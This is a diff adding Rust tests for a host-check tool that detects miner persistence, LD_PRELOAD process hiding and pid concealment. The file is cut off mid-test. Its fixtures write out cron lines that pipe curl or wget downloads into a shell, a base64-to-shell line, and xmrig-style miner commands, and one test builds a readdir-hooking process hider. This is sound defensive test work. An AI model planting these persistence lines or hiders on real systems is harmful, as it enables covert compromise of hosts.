@@ -1,0 +1,1048 @@
+//! Tests of the host checks on fixture roots and real processes.
+
+use super::*;
+use std::ffi::CString;
+use std::os::unix::fs::symlink;
+use std::process::{Child, Command as Proc, Stdio};
+use std::time::Instant;
+
+/// The LD_PRELOAD hider the tests compile with `cc`: hooks readdir and
+/// readdir64 and skips the entry named by `$MW_HIDE_PID` (the technique of
+/// libprocesshider, without its /proc check).
+pub const HIDER_C: &str = include_str!("../../../tests/support/hider.c");
+
+// ---- rolling pid sweeps ----------------------------------------------
+
+fn rolling(last_pid: Option<i32>, cursor: i32, slices: u32) -> Sweep {
+    Sweep::Rolling {
+        last_pid,
+        cursor,
+        slices,
+        also: Vec::new(),
+    }
+}
+
+#[test]
+fn sweep_plans() {
+    assert_eq!(
+        plan_sweep(&Sweep::Full, 32768, Some(500)),
+        (vec![(1, 32768)], 1)
+    );
+    // First rolling sweep: everything allocated so far, and a slice.
+    assert_eq!(
+        plan_sweep(&rolling(None, 1, 4), 1000, Some(300)),
+        (vec![(1, 300)], 251)
+    );
+    // Then: what was allocated since, and the next slice.
+    assert_eq!(
+        plan_sweep(&rolling(Some(300), 251, 4), 1000, Some(320)),
+        (vec![(251, 500)], 501)
+    );
+    assert_eq!(
+        plan_sweep(&rolling(Some(320), 751, 4), 1000, Some(330)),
+        (vec![(321, 330), (751, 1000)], 1)
+    );
+    // The allocator wrapped around pid_max.
+    assert_eq!(
+        plan_sweep(&rolling(Some(990), 1, 4), 1000, Some(310)),
+        (vec![(1, 310), (991, 1000)], 251)
+    );
+    // Nothing allocated since.
+    assert_eq!(
+        plan_sweep(&rolling(Some(330), 501, 4), 1000, Some(330)),
+        (vec![(501, 750)], 751)
+    );
+    // No allocator position: the whole range.
+    assert_eq!(
+        plan_sweep(&rolling(Some(330), 501, 4), 1000, None),
+        (vec![(1, 1000)], 1)
+    );
+}
+
+#[test]
+fn rolling_slices_cover_the_whole_range() {
+    let mut covered = vec![false; 1001];
+    let mut cursor = 1;
+    for _ in 0..7 {
+        let (ranges, next) = plan_sweep(&rolling(Some(5), cursor, 7), 1000, Some(5));
+        for (a, b) in ranges {
+            for p in a..=b {
+                covered[p as usize] = true;
+            }
+        }
+        cursor = next;
+    }
+    assert!(covered[1..].iter().all(|c| *c));
+    assert_eq!(cursor, 1);
+}
+
+#[test]
+fn a_rolling_sweep_finds_a_process_started_since_the_last_one() {
+    let proc_fd = open_dir_path(Path::new("/proc")).ok();
+    let before = last_allocated_pid(proc_fd.as_ref()).expect("/proc/loadavg");
+    let kid = Kid::sleep();
+    let pid_max = read_value_at(proc_fd.as_ref().expect("/proc"), "sys/kernel/pid_max")
+        .and_then(|v| v.trim().parse::<i32>().ok())
+        .expect("pid_max");
+    // The slice sits at the very end of the range, away from the kid.
+    let sweep = rolling(Some(before), pid_max, 1_000_000);
+    let (found, swept) = brute_force_sweep(Path::new("/proc"), false, &sweep);
+    assert!(found.contains(&kid.pid()), "{swept:?}");
+    assert!(swept.probed(kid.pid()));
+    assert!(swept.count() < u64::try_from(pid_max).unwrap_or(0));
+    assert_eq!(swept.next_slice, 1);
+    // A pid found hidden before is asked about on its own.
+    let sweep = Sweep::Rolling {
+        last_pid: Some(kid.pid()),
+        cursor: pid_max,
+        slices: 1_000_000,
+        also: vec![kid.pid()],
+    };
+    let (found, swept) = brute_force_sweep(Path::new("/proc"), false, &sweep);
+    assert!(found.contains(&kid.pid()), "{swept:?}");
+    assert_eq!(swept.pids, vec![kid.pid()]);
+}
+
+// ---- guards ----------------------------------------------------------
+
+/// A child we started: killed and reaped on drop.
+struct Kid(Child);
+impl Kid {
+    fn sleep() -> Kid {
+        Kid(Proc::new("sleep")
+            .arg("60")
+            .stdin(Stdio::null())
+            .stdout(Stdio::null())
+            .spawn()
+            .expect("spawn sleep"))
+    }
+    fn pid(&self) -> i32 {
+        i32::try_from(self.0.id()).expect("pid fits i32")
+    }
+}
+impl Drop for Kid {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+/// A mount we made: detached on drop.
+struct Mounted(CString);
+impl Drop for Mounted {
+    fn drop(&mut self) {
+        // SAFETY: a NUL-terminated path we mounted on.
+        unsafe { libc::umount2(self.0.as_ptr(), libc::MNT_DETACH) };
+    }
+}
+
+/// chattr +i on a file we made; cleared on drop (before the tempdir goes).
+struct Immutable(PathBuf);
+impl Immutable {
+    fn set(path: &Path) -> io::Result<Immutable> {
+        set_immutable(path, true)?;
+        Ok(Immutable(path.to_path_buf()))
+    }
+}
+impl Drop for Immutable {
+    fn drop(&mut self) {
+        let _ = set_immutable(&self.0, false);
+    }
+}
+fn set_immutable(path: &Path, on: bool) -> io::Result<()> {
+    let c = cstring(path.as_os_str().as_bytes())?;
+    // SAFETY: NUL-terminated path.
+    let fd = owned(unsafe {
+        libc::open(
+            c.as_ptr(),
+            libc::O_RDONLY | libc::O_CLOEXEC | libc::O_NOFOLLOW,
+        )
+    })?;
+    let mut attr: libc::c_long = 0;
+    // SAFETY: FS_IOC_GETFLAGS/SETFLAGS read and write one long.
+    if unsafe { libc::ioctl(fd.as_raw_fd(), libc::FS_IOC_GETFLAGS, &mut attr) } != 0 {
+        return Err(io::Error::last_os_error());
+    }
+    if on {
+        attr |= FS_IMMUTABLE_FL;
+    } else {
+        attr &= !FS_IMMUTABLE_FL;
+    }
+    // SAFETY: as above.
+    if unsafe { libc::ioctl(fd.as_raw_fd(), libc::FS_IOC_SETFLAGS, &attr) } != 0 {
+        return Err(io::Error::last_os_error());
+    }
+    Ok(())
+}
+
+// ---- fixtures --------------------------------------------------------
+
+struct Fixture {
+    _dir: tempfile::TempDir,
+    root: PathBuf,
+    proc: PathBuf,
+}
+
+/// A fixture root and a fake proc root (pid_max 64, no pids).
+fn fixture() -> Fixture {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let root = dir.path().join("root");
+    let proc = dir.path().join("proc");
+    std::fs::create_dir_all(&root).expect("mkdir root");
+    let fx = Fixture {
+        root,
+        proc,
+        _dir: dir,
+    };
+    put(&fx.proc, "sys/kernel/pid_max", "64\n");
+    fx
+}
+
+fn put(base: &Path, rel: &str, content: &str) -> PathBuf {
+    let path = base.join(rel);
+    if let Some(parent) = path.parent() {
+        std::fs::create_dir_all(parent).expect("mkdir");
+    }
+    std::fs::write(&path, content).expect("write fixture");
+    path
+}
+
+fn observe(fx: &Fixture) -> (HostFacts, Vec<(String, String)>) {
+    observe_host(&fx.root, &fx.proc)
+}
+
+fn entry_for<'a>(facts: &'a HostFacts, needle: &str) -> &'a PersistenceEntry {
+    facts
+        .persistence
+        .iter()
+        .find(|e| e.text.contains(needle))
+        .unwrap_or_else(|| {
+            panic!(
+                "no persistence entry with {needle:?} in {:#?}",
+                facts.persistence
+            )
+        })
+}
+
+fn has(reasons: &[String], r: &str) -> bool {
+    reasons.iter().any(|x| x == r)
+}
+
+// ---- indicators ------------------------------------------------------
+
+#[test]
+fn ld_so_preload_entries() {
+    let fx = fixture();
+    put(
+        &fx.root,
+        "etc/ld.so.preload",
+        "/usr/local/lib/libprocesshider.so\n/etc/libsystem.so:/x.so\n",
+    );
+    let (facts, _) = observe(&fx);
+    let p = facts.ld_so_preload.expect("ld.so.preload seen");
+    assert_eq!(
+        p.entries,
+        [
+            "/usr/local/lib/libprocesshider.so",
+            "/etc/libsystem.so",
+            "/x.so"
+        ]
+    );
+    assert!(p.path.ends_with("/etc/ld.so.preload"));
+    assert!(!p.immutable);
+    // none of those is mapped into us
+    assert!(
+        facts
+            .self_preloaded
+            .iter()
+            .all(|l| !l.contains("processhider"))
+    );
+
+    let empty = fixture();
+    assert_eq!(observe(&empty).0.ld_so_preload, None);
+}
+
+#[test]
+fn hugepages_reserved_without_consumer() {
+    let fx = fixture();
+    put(
+        &fx.proc,
+        "meminfo",
+        "MemTotal: 8000000 kB\nHugePages_Total:    1168\nHugePages_Free:     1168\n\
+         HugePages_Rsvd:        0\nHugePages_Surp:        0\nHugepagesize:       2048 kB\n",
+    );
+    put(
+        &fx.root,
+        "sys/kernel/mm/hugepages/hugepages-1048576kB/nr_hugepages",
+        "3\n",
+    );
+    put(
+        &fx.root,
+        "sys/kernel/mm/hugepages/hugepages-1048576kB/free_hugepages",
+        "3\n",
+    );
+    let (facts, gaps) = observe(&fx);
+    assert_eq!(
+        facts.hugepages,
+        HugePages {
+            nr_hugepages: 1168,
+            free: 1168,
+            reserved: 0,
+            surplus: 0,
+            size_kib: 2048,
+            nr_1g: 3,
+            free_1g: 3,
+        }
+    );
+    assert!(
+        !gaps.iter().any(|(w, _)| w.ends_with("meminfo")),
+        "{gaps:?}"
+    );
+}
+
+#[test]
+fn msr_allow_writes_on() {
+    let fx = fixture();
+    put(&fx.root, "sys/module/msr/parameters/allow_writes", "on\n");
+    assert_eq!(observe(&fx).0.msr_allow_writes.as_deref(), Some("on"));
+    assert_eq!(observe(&fixture()).0.msr_allow_writes, None);
+}
+
+#[test]
+fn nmi_watchdog_off() {
+    let fx = fixture();
+    put(&fx.proc, "sys/kernel/nmi_watchdog", "0\n");
+    assert_eq!(observe(&fx).0.nmi_watchdog.as_deref(), Some("0"));
+}
+
+#[test]
+fn sysctl_files() {
+    let fx = fixture();
+    put(
+        &fx.root,
+        "etc/sysctl.conf",
+        "# tuning\nvm.swappiness = 10\nvm.nr_hugepages = 1280\n",
+    );
+    put(
+        &fx.root,
+        "etc/sysctl.d/10-x.conf",
+        "kernel.nmi_watchdog=0\n-vm/nr_overcommit_hugepages = 64\n",
+    );
+    put(
+        &fx.root,
+        "usr/lib/sysctl.d/50-pid-max.conf",
+        "kernel.pid_max = 4194304\n",
+    );
+    put(&fx.root, "etc/sysctl.d/README", "vm.nr_hugepages = 9\n"); // not *.conf
+    symlink(
+        "../sysctl.conf",
+        fx.root.join("etc/sysctl.d/99-sysctl.conf"),
+    )
+    .expect("symlink");
+    let (facts, gaps) = observe(&fx);
+    let got: Vec<(String, u32, &str, &str)> = facts
+        .sysctl
+        .iter()
+        .map(|s| {
+            (
+                basename(&s.file).to_string(),
+                s.line,
+                s.key.as_str(),
+                s.value.as_str(),
+            )
+        })
+        .collect();
+    assert_eq!(
+        got,
+        [
+            ("sysctl.conf".to_string(), 3, "vm.nr_hugepages", "1280"),
+            ("10-x.conf".to_string(), 1, "kernel.nmi_watchdog", "0"),
+            (
+                "10-x.conf".to_string(),
+                2,
+                "vm.nr_overcommit_hugepages",
+                "64"
+            ),
+        ]
+    );
+    // Debian's 99-sysctl.conf -> ../sysctl.conf is read anyway: no gap
+    assert!(
+        !gaps.iter().any(|(w, _)| w.contains("99-sysctl")),
+        "{gaps:?}"
+    );
+}
+
+#[test]
+fn crontab_download_and_boot_miner() {
+    let fx = fixture();
+    let user = "SHELL=/bin/sh\n\
+                */5 * * * * curl -fsSL http://x/y.sh | sh\n\
+                @reboot /tmp/.X25-unix/.rsync/c/kswapd0 -B -o stratum+tcp://pool:3333 -u 4Abc\n\
+                0 3 * * * /usr/sbin/logrotate /etc/logrotate.conf\n";
+    put(&fx.root, "var/spool/cron/crontabs/root", user);
+    put(
+        &fx.root,
+        "etc/crontab",
+        "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n\
+         * * * * * root wget -q -O - http://1.2.3.4/i.sh | bash\n\
+         */10 * * * * root echo ZWNobyBoaQ== | base64 -d | sh\n",
+    );
+    let (facts, _) = observe(&fx);
+    assert_eq!(facts.persistence.len(), 4, "{:#?}", facts.persistence);
+
+    let curl = entry_for(&facts, "curl -fsSL");
+    assert_eq!(curl.kind, "cron");
+    assert_eq!(curl.line, 2);
+    assert!(curl.path.ends_with("var/spool/cron/crontabs/root"));
+    assert_eq!(curl.reasons, ["downloads and pipes into a shell"]);
+    assert_eq!(curl.executable.as_deref(), Some("curl"));
+
+    let boot = entry_for(&facts, "@reboot");
+    assert_eq!(
+        boot.executable.as_deref(),
+        Some("/tmp/.X25-unix/.rsync/c/kswapd0")
+    );
+    for r in [
+        "runs from /tmp",
+        "runs from a hidden directory",
+        "runs a program named like a kernel thread (kswapd0)",
+        "has a stratum pool URL",
+        "has pool arguments (-o host:port -u user)",
+        "runs in the background (-B) with a pool",
+        "runs at boot (@reboot)",
+    ] {
+        assert!(has(&boot.reasons, r), "{r} missing from {:?}", boot.reasons);
+    }
+
+    let wget = entry_for(&facts, "wget -q -O -");
+    assert_eq!(wget.reasons, ["downloads and pipes into a shell"]);
+    assert_eq!(wget.executable.as_deref(), Some("wget"));
+    let b64 = entry_for(&facts, "base64 -d");
+    assert_eq!(b64.reasons, ["decodes base64 and pipes into a shell"]);
+    assert!(
+        !facts
+            .persistence
+            .iter()
+            .any(|e| e.text.contains("logrotate") || e.text.contains("run-parts"))
+    );
+}
+
+#[test]
+fn systemd_miner_unit() {
+    let fx = fixture();
+    put(
+        &fx.root,
+        "etc/systemd/system/sys_miner.service",
+        "[Unit]\nDescription=System\n[Service]\nExecStart=/dev/shm/.x/kdevtmpfsi\nRestart=always\n",
+    );
+    put(
+        &fx.root,
+        "etc/systemd/system/ssh.service",
+        "[Service]\nExecStart=/usr/sbin/sshd -D\n",
+    );
+    put(
+        &fx.root,
+        "usr/lib/systemd/system/cron.service",
+        "[Service]\nExecStartPre=-/bin/true\nExecStart=/usr/sbin/cron -f $EXTRA_OPTS\n",
+    );
+    put(
+        &fx.root,
+        "home/alice/.config/systemd/user/dbus-x.service",
+        "[Service]\nExecStart=/bin/sh -c \\\n  \"/home/alice/.cache/xmrig-6.21/xmrig --donate-level 1 -o pool.example:443 -u 4Abc\"\n",
+    );
+    // wants/ links into scanned trees are normal; a link to /opt is a gap
+    std::fs::create_dir_all(fx.root.join("etc/systemd/system/multi-user.target.wants"))
+        .expect("mkdir");
+    symlink(
+        "/lib/systemd/system/cron.service",
+        fx.root
+            .join("etc/systemd/system/multi-user.target.wants/cron.service"),
+    )
+    .expect("symlink");
+    symlink(
+        "/opt/x/helper.service",
+        fx.root
+            .join("etc/systemd/system/multi-user.target.wants/helper.service"),
+    )
+    .expect("symlink");
+    let wants = fx
+        .root
+        .join("home/alice/.config/systemd/user/default.target.wants");
+    std::fs::create_dir_all(&wants).expect("mkdir");
+    symlink("../dbus-x.service", wants.join("dbus-x.service")).expect("symlink");
+    let (facts, gaps) = observe(&fx);
+    assert!(!gaps.iter().any(|(w, _)| w.contains("/home/")), "{gaps:?}");
+
+    let unit = entry_for(&facts, "kdevtmpfsi");
+    assert_eq!(unit.kind, "systemd");
+    assert_eq!(unit.line, 4);
+    assert_eq!(unit.text, "ExecStart=/dev/shm/.x/kdevtmpfsi");
+    assert_eq!(unit.executable.as_deref(), Some("/dev/shm/.x/kdevtmpfsi"));
+    for r in [
+        "runs from /dev/shm",
+        "runs from a hidden directory",
+        "names the miner kdevtmpfsi",
+        "unit named like a miner (sys_miner.service)",
+    ] {
+        assert!(has(&unit.reasons, r), "{r} missing from {:?}", unit.reasons);
+    }
+
+    let user = entry_for(&facts, "xmrig --donate-level");
+    assert_eq!(user.line, 2);
+    assert_eq!(
+        user.executable.as_deref(),
+        Some("/home/alice/.cache/xmrig-6.21/xmrig")
+    );
+    assert!(has(&user.reasons, "names the miner xmrig"));
+    assert!(has(&user.reasons, "has the miner flag --donate-level"));
+    assert!(has(
+        &user.reasons,
+        "has pool arguments (-o host:port -u user)"
+    ));
+
+    assert_eq!(facts.persistence.len(), 2, "{:#?}", facts.persistence);
+    assert!(
+        gaps.iter()
+            .any(|(w, e)| w.ends_with("helper.service") && e.contains("/opt/x")),
+        "{gaps:?}"
+    );
+    assert!(
+        !gaps.iter().any(|(w, _)| w.ends_with("wants/cron.service")),
+        "{gaps:?}"
+    );
+}
+
+#[test]
+fn rc_local_from_var_tmp() {
+    let fx = fixture();
+    put(
+        &fx.root,
+        "etc/rc.local",
+        "#!/bin/sh -e\n# rc.local\nnohup /var/tmp/.sys/sshd >/dev/null 2>&1 &\nexit 0\n",
+    );
+    let (facts, _) = observe(&fx);
+    assert_eq!(facts.persistence.len(), 1, "{:#?}", facts.persistence);
+    let e = &facts.persistence[0];
+    assert_eq!((e.kind.as_str(), e.line), ("rc.local", 3));
+    assert_eq!(e.executable.as_deref(), Some("/var/tmp/.sys/sshd"));
+    assert_eq!(
+        e.reasons,
+        ["runs from /var/tmp", "runs from a hidden directory"]
+    );
+}
+
+#[test]
+fn benign_lines_are_not_returned() {
+    let fx = fixture();
+    put(
+        &fx.root,
+        "etc/crontab",
+        "SHELL=/bin/sh\n25 6 * * * root test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }\n",
+    );
+    put(
+        &fx.root,
+        "etc/cron.d/e2scrub_all",
+        "30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n",
+    );
+    put(
+        &fx.root,
+        "etc/cron.daily/logrotate",
+        "#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\nTMP=$(mktemp /tmp/x.XXXX)\nrm -f /tmp/x.*\n",
+    );
+    put(
+        &fx.root,
+        "etc/systemd/system/sshd.service",
+        "[Service]\nExecStart=/usr/sbin/sshd -D\nExecReload=/bin/kill -HUP $MAINPID\n",
+    );
+    put(
+        &fx.root,
+        "usr/lib/systemd/system/systemd-sysupdate.service",
+        "[Service]\nExecStart=/usr/lib/systemd/systemd-sysupdate update\n",
+    );
+    let (facts, gaps) = observe(&fx);
+    assert!(facts.persistence.is_empty(), "{:#?}", facts.persistence);
+    assert!(facts.sysctl.is_empty());
+    assert!(!gaps.iter().any(|(w, _)| w.contains("/etc/")), "{gaps:?}");
+}
+
+#[test]
+fn immutable_file_is_reported() {
+    let fx = fixture();
+    let benign = put(
+        &fx.root,
+        "etc/cron.d/sync",
+        "0 3 * * * root /usr/sbin/logrotate /etc/logrotate.conf\n",
+    );
+    let placeholder = put(&fx.root, "etc/cron.d/kthreaddk", "");
+    let _g1 = Immutable::set(&benign).expect("chattr +i (needs root and ext4/xfs/btrfs)");
+    let _g2 = Immutable::set(&placeholder).expect("chattr +i");
+    let (facts, _) = observe(&fx);
+    let sync = facts
+        .persistence
+        .iter()
+        .find(|e| e.path.ends_with("cron.d/sync"))
+        .expect("immutable reported");
+    assert!(sync.immutable);
+    assert_eq!(sync.reasons, ["immutable (chattr +i)"]);
+    assert_eq!(sync.line, 1);
+    assert_eq!(sync.executable.as_deref(), Some("/usr/sbin/logrotate"));
+    let ph = facts
+        .persistence
+        .iter()
+        .find(|e| e.path.ends_with("cron.d/kthreaddk"))
+        .expect("placeholder");
+    assert!(ph.immutable);
+    assert_eq!(
+        ph.reasons,
+        [
+            "file named like the miner kthreaddk",
+            "immutable (chattr +i)"
+        ]
+    );
+    assert_eq!(ph.line, 0);
+}
+
+#[test]
+fn symlinks_and_fifos_are_not_followed() {
+    let fx = fixture();
+    let outside = put(
+        &fx.root,
+        "../outside/evil",
+        "* * * * * root curl http://x | sh\n",
+    );
+    std::fs::create_dir_all(fx.root.join("etc/cron.d")).expect("mkdir");
+    symlink(&outside, fx.root.join("etc/crontab")).expect("symlink");
+    symlink(&outside, fx.root.join("etc/cron.d/link")).expect("symlink");
+    symlink("/tmp/.x/payload", fx.root.join("etc/rc.local")).expect("symlink");
+    let fifo = CString::new(fx.root.join("etc/cron.d/pipe").as_os_str().as_bytes()).expect("path");
+    // SAFETY: NUL-terminated path in our tempdir.
+    assert_eq!(unsafe { libc::mkfifo(fifo.as_ptr(), 0o644) }, 0);
+    // a symlinked directory on the way is not entered either
+    std::fs::create_dir_all(fx.root.join("../outside/spool")).expect("mkdir");
+    put(
+        &fx.root,
+        "../outside/spool/root",
+        "* * * * * curl http://x | sh\n",
+    );
+    std::fs::create_dir_all(fx.root.join("var/spool/cron")).expect("mkdir");
+    symlink(
+        fx.root.join("../outside/spool"),
+        fx.root.join("var/spool/cron/crontabs"),
+    )
+    .expect("symlink");
+    symlink(&outside, fx.root.join("etc/ld.so.preload")).expect("symlink");
+
+    let started = Instant::now();
+    let (facts, gaps) = observe(&fx);
+    assert!(started.elapsed().as_secs() < 30, "no hang");
+    assert!(
+        !facts.persistence.iter().any(|e| e.text.contains("curl")),
+        "{:#?}",
+        facts.persistence
+    );
+    for what in [
+        "etc/crontab",
+        "cron.d/link",
+        "cron.d/pipe",
+        "etc/rc.local",
+        "cron/crontabs",
+        "ld.so.preload",
+    ] {
+        assert!(
+            gaps.iter().any(|(w, _)| w.ends_with(what)),
+            "no gap for {what}: {gaps:?}"
+        );
+    }
+    assert!(
+        gaps.iter()
+            .any(|(w, e)| w.ends_with("cron.d/pipe") && e.contains("fifo")),
+        "{gaps:?}"
+    );
+    // the rc.local link's target itself is suspect
+    let rc = facts
+        .persistence
+        .iter()
+        .find(|e| e.kind == "rc.local")
+        .expect("rc.local link entry");
+    assert_eq!(rc.text, "symlink -> /tmp/.x/payload");
+    assert!(has(&rc.reasons, "runs from /tmp"));
+    let p = facts
+        .ld_so_preload
+        .expect("symlinked ld.so.preload reported");
+    assert!(p.entries.is_empty());
+    assert!(p.symlink_target.is_some());
+}
+
+// ---- processes -------------------------------------------------------
+
+fn alive(pid: i32) -> bool {
+    // SAFETY: signal 0.
+    unsafe { libc::kill(pid, 0) == 0 }
+}
+
+#[test]
+fn raw_listing_matches_readdir() {
+    let kid = Kid::sleep();
+    let proc = Path::new("/proc");
+    let raw = list_pids_raw(proc).expect("getdents64");
+    let rd = list_pids_readdir(proc).expect("readdir");
+    assert!(raw.contains(&kid.pid()) && rd.contains(&kid.pid()));
+    let (raw2, rd2) = (
+        list_pids_raw(proc).expect("getdents64"),
+        list_pids_readdir(proc).expect("readdir"),
+    );
+    for h in hidden_pids(
+        &raw,
+        &rd,
+        &raw.iter().chain(&rd).copied().collect::<Vec<_>>(),
+    ) {
+        // only races: gone now, or in both listings the second time
+        let again = raw2.contains(&h.pid) && rd2.contains(&h.pid);
+        assert!(!alive(h.pid) || again, "{h:?} differs between listings");
+    }
+}
+
+#[test]
+fn brute_force_finds_leaders_only() {
+    let kid = Kid::sleep();
+    let started = Instant::now();
+    let brute = brute_force_pids(Path::new("/proc"));
+    let took = started.elapsed();
+    let pid_max = std::fs::read_to_string("/proc/sys/kernel/pid_max").unwrap_or_default();
+    eprintln!(
+        "brute_force_pids: pid_max {} in {took:?}, {} pids",
+        pid_max.trim(),
+        brute.len()
+    );
+    assert!(brute.contains(&kid.pid()));
+    assert!(brute.contains(&1));
+    // our own test threads are not thread-group leaders
+    let me = i32::try_from(std::process::id()).expect("pid");
+    let tids: Vec<i32> = std::fs::read_dir(format!("/proc/{me}/task"))
+        .expect("task dir")
+        .filter_map(|e| e.ok()?.file_name().to_str()?.parse().ok())
+        .filter(|&t| t != me)
+        .collect();
+    for tid in tids {
+        assert!(
+            !brute.contains(&tid) || !alive(tid),
+            "thread {tid} listed as a process"
+        );
+    }
+    assert!(took.as_secs_f64() < 5.0, "brute force took {took:?}");
+    assert!(hidden_pids(&brute, &brute, &brute).is_empty());
+}
+
+/// Measures the brute force over the largest possible pid space
+/// (`cargo test -- --ignored --nocapture brute_force_4m`).
+#[test]
+#[ignore = "measurement"]
+fn brute_force_4m() {
+    let proc_fd = open_dir_path(Path::new("/proc")).expect("/proc");
+    for probe in [Probe::Syscalls, Probe::SyscallsThenStat] {
+        let label = format!("{probe:?}");
+        let started = Instant::now();
+        let found = scan_pid_range(Some(&proc_fd), probe, 1, PID_MAX_LIMIT);
+        eprintln!(
+            "{label}: 1..={PID_MAX_LIMIT} in {:?} ({} ids)",
+            started.elapsed(),
+            found.len()
+        );
+    }
+}
+
+#[test]
+fn hidden_pids_compares_listings() {
+    let h = hidden_pids(&[1, 2, 5], &[1, 2], &[1, 2, 5, 9]);
+    assert_eq!(
+        h,
+        [
+            HiddenPid {
+                pid: 5,
+                seen_by: vec![GETDENTS.into(), BRUTE.into()],
+                missing_from: vec![READDIR.into()]
+            },
+            HiddenPid {
+                pid: 9,
+                seen_by: vec![BRUTE.into()],
+                missing_from: vec![GETDENTS.into(), READDIR.into()]
+            },
+        ]
+    );
+}
+
+fn build_hider(dir: &Path) -> PathBuf {
+    let src = dir.join("hider.c");
+    let so = dir.join("hider.so");
+    std::fs::write(&src, HIDER_C).expect("write hider.c");
+    let status = Proc::new("cc")
+        .args(["-shared", "-fPIC", "-o"])
+        .arg(&so)
+        .arg(&src)
+        .arg("-ldl")
+        .status()
+        .expect("run cc");
+    assert!(status.success(), "cc failed");
+    so
+}
+
+fn ls_proc(preload: Option<(&Path, i32)>) -> Vec<i32> {
+    let mut cmd = Proc::new("ls");
+    cmd.arg("/proc").env_remove("LD_PRELOAD");
+    if let Some((so, pid)) = preload {
+        cmd.env("LD_PRELOAD", so)
+            .env("MW_HIDE_PID", pid.to_string());
+    }
+    let out = cmd.output().expect("ls /proc");
+    String::from_utf8_lossy(&out.stdout)
+        .lines()
+        .filter_map(|l| l.trim().parse().ok())
+        .collect()
+}
+
+#[test]
+fn ld_preload_hider_is_seen_through() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let so = build_hider(dir.path());
+    let kid = Kid::sleep();
+    let pid = kid.pid();
+    assert!(
+        ls_proc(None).contains(&pid),
+        "ls sees the sleep without the hider"
+    );
+    assert!(
+        !ls_proc(Some((&so, pid))).contains(&pid),
+        "the hider hides it from ls"
+    );
+
+    // Re-run this test binary, hider preloaded, to run `hider_child` alone.
+    let name = format!(
+        "{}::hider_child",
+        module_path!()
+            .split_once("::")
+            .map_or(module_path!(), |(_, rest)| rest)
+    );
+    let out = Proc::new(std::env::current_exe().expect("current_exe"))
+        .args([name.as_str(), "--exact", "--nocapture", "--test-threads=1"])
+        .env("LD_PRELOAD", &so)
+        .env("MW_HIDE_PID", pid.to_string())
+        .env("MW_HIDER_CHILD", pid.to_string())
+        .output()
+        .expect("re-run test binary");
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(out.status.success(), "child failed:\n{stdout}\n{stderr}");
+    assert!(
+        stdout.contains("MW_HIDER_CHILD_OK"),
+        "child test did not run:\n{stdout}\n{stderr}"
+    );
+}
+
+/// Runs only inside the re-executed binary of `ld_preload_hider_is_seen_through`.
+#[test]
+fn hider_child() {
+    let Some(pid) = std::env::var("MW_HIDER_CHILD")
+        .ok()
+        .and_then(|p| p.parse::<i32>().ok())
+    else {
+        return;
+    };
+    let proc = Path::new("/proc");
+    let rd = list_pids_readdir(proc).expect("readdir");
+    let raw = list_pids_raw(proc).expect("getdents64");
+    let brute = brute_force_pids(proc);
+    assert!(!rd.contains(&pid), "readdir is hooked in this process");
+    assert!(raw.contains(&pid), "getdents64 sees it");
+    assert!(brute.contains(&pid), "brute force sees it");
+    let hidden = hidden_pids(&raw, &rd, &brute);
+    let h = hidden
+        .iter()
+        .find(|h| h.pid == pid)
+        .expect("reported hidden");
+    assert_eq!(h.missing_from, [READDIR]);
+    assert_eq!(h.seen_by, [GETDENTS, BRUTE]);
+
+    let (facts, _) = observe_host(Path::new("/"), proc);
+    assert!(
+        facts.hidden_pids.iter().any(|h| h.pid == pid),
+        "{:?}",
+        facts.hidden_pids
+    );
+    assert!(
+        facts
+            .self_preloaded
+            .iter()
+            .any(|l| l.ends_with("/hider.so")),
+        "{:?}",
+        facts.self_preloaded
+    );
+    println!("MW_HIDER_CHILD_OK");
+}
+
+#[test]
+fn bind_mount_over_proc_pid() {
+    let kid = Kid::sleep();
+    let pid = kid.pid();
+    let empty = tempfile::tempdir().expect("tempdir");
+    let target = CString::new(format!("/proc/{pid}")).expect("path");
+    let source = CString::new(empty.path().as_os_str().as_bytes()).expect("path");
+    // SAFETY: NUL-terminated paths; a plain bind mount.
+    let r = unsafe {
+        libc::mount(
+            source.as_ptr(),
+            target.as_ptr(),
+            std::ptr::null(),
+            libc::MS_BIND,
+            std::ptr::null(),
+        )
+    };
+    assert_eq!(r, 0, "mount --bind: {}", io::Error::last_os_error());
+    let _mounted = Mounted(target);
+
+    let proc = Path::new("/proc");
+    let fx = fixture();
+    let (facts, _) = observe_host(&fx.root, proc);
+    assert!(
+        facts.proc_pid_mounts.contains(&format!("/proc/{pid}")),
+        "{:?}",
+        facts.proc_pid_mounts
+    );
+    // What the bind mount hides: the contents, not the directory entry.
+    assert!(list_pids_raw(proc).expect("getdents64").contains(&pid));
+    assert!(list_pids_readdir(proc).expect("readdir").contains(&pid));
+    assert!(brute_force_pids(proc).contains(&pid));
+    assert!(!facts.hidden_pids.iter().any(|h| h.pid == pid));
+    assert!(
+        std::fs::metadata(format!("/proc/{pid}/status")).is_err(),
+        "status is hidden"
+    );
+    assert_eq!(
+        std::fs::read_dir(format!("/proc/{pid}"))
+            .expect("dir")
+            .count(),
+        0
+    );
+}
+
+#[test]
+fn real_host_observes_cleanly() {
+    let started = Instant::now();
+    let (facts, gaps) = observe_host(Path::new("/"), Path::new("/proc"));
+    eprintln!("observe_host(/, /proc) in {:?}", started.elapsed());
+    eprintln!(
+        "{}",
+        serde_json::to_string_pretty(&facts).unwrap_or_default()
+    );
+    eprintln!("gaps: {gaps:?}");
+    assert!(facts.hugepages.size_kib > 0);
+    let round: HostFacts =
+        serde_json::from_str(&serde_json::to_string(&facts).expect("json")).expect("json");
+    assert_eq!(round, facts);
+}
+
+// ---- pure helpers ----------------------------------------------------
+
+#[test]
+fn parses_mountinfo() {
+    let text = "22 27 0:21 / /proc rw,relatime shared:12 - proc proc rw,hidepid=invisible\n\
+                90 22 254:1 /tmp/e /proc/4242 rw,relatime shared:1 - ext4 /dev/vda rw\n\
+                91 22 254:1 /tmp/e /proc/77/cmdline rw - ext4 /dev/vda rw\n\
+                92 27 254:1 / /mnt/my\\040disk rw - ext4 /dev/vdb rw\n\
